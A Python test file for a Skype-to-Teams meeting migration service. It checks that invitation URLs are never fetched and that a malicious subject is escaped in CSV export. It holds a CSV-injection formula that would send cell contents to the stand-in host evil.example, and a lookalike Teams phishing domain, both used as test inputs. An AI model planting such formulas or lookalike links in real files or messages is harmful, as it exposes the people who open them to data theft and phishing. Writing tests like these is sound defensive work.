"""Invitations that somebody wrote against the service: they are migrated or left, and nothing in them is obeyed."""

from __future__ import annotations

import socket
import threading
from contextlib import contextmanager
from typing import TYPE_CHECKING

from system_stack import PUBLIC_STRINGS, skype_body

if TYPE_CHECKING:
    from collections.abc import Iterator

    from system_stack import Stack

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"report")'


@contextmanager
def listener() -> Iterator[tuple[str, list[bytes]]]:
    """An address that anybody could put into a mail, and what was sent to it."""
    heard: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.2)
        done = threading.Event()

        def listen() -> None:
            while not done.is_set():
                try:
                    connection, _ = server.accept()
                except TimeoutError:
                    continue
                with connection:
                    connection.settimeout(2)
                    heard.append(connection.recv(4096))

        thread = threading.Thread(target=listen)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.getsockname()[1]}", heard
        finally:
            done.set()
            thread.join()


def test_no_address_in_an_invitation_is_ever_fetched(stack: Stack) -> None:
    """Neither the join link nor a picture, in a run, a preview, a discovery: the organizer chose them, or a stranger."""
    with listener() as (trap, heard):
        join_url = f"{trap}/meet/ada/QWERTY12"
        body = skype_body(join_url).replace(
            "</body>",
            f'<img src="{trap}/pixel.png"><link rel=stylesheet href="{trap}/a.css"><a href="{trap}/x">x</a>'
            f'<a href="https://teams.microsoft.com.evil.example/l/meetup-join/1">y</a></body>',
        )
        user = stack.user(mode="TeamsOnly")
        properties = [
            {"id": f"{PUBLIC_STRINGS}{name}", "value": join_url}
            for name in ("OnlineMeetingConfLink", "OnlineMeetingExternalLink", "OnlineMeetingInternalLink")
        ]
        made = stack.skype_meeting(
            user,
            attendees=("zoe@fabrikam.example",),
            body={"contentType": "html", "content": body},
            singleValueExtendedProperties=properties,
            location={"displayName": f"Skype Meeting; {trap}/place"},
        )
        answer = stack.api("POST", "previews", {"identity": user.name, "targetMeetingType": "Teams"})
        preview = answer.json()["id"]
        stack.until(lambda: stack.api("GET", f"previews/{preview}").json()["state"] != "pending")
        stack.start(user, settleMinutes=0)
        assert stack.finished(user)[0]["State"] == "Succeeded", stack.meetings(user)
        assert [row["verdict"] for row in stack.meetings(user)] == ["migrated"]
        content = stack.event(user, made["id"])["body"]["content"]
        assert "teams.microsoft.com/l/meetup-join/" in content
        assert join_url not in content
        assert f"{trap}/pixel.png" in content, "what stands outside the block is the organizer's"
        assert heard == []
        with socket.create_connection(("127.0.0.1", int(trap.rpartition(":")[2]))) as probe:
            probe.sendall(b"the trap works")
        stack.until(lambda: heard == [b"the trap works"])


def test_words_of_a_tenant_are_no_formula_no_command_and_no_markup(stack: Stack) -> None:
    """A subject that is a formula, with an escape sequence, comes out of every list as text."""
    user = stack.user()
    stack.skype_meeting(user, attendees=("zoe@fabrikam.example",), subject=FORMULA)
    stack.start(user, settleMinutes=0)
    assert stack.finished(user)[0]["State"] == "Succeeded"
    path = f"migrations/{user.id}/meetings"
    answer = stack.api("GET", path, token="reader", Accept="text/csv")
    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert FORMULA.replace('"', '""') in answer.text
    assert f"'{FORMULA}".replace('"', '""') in answer.text
    assert f',"{FORMULA[:12]}' not in answer.text
    assert stack.api("GET", path, token="reader").json()["value"][0]["subject"] == FORMULA
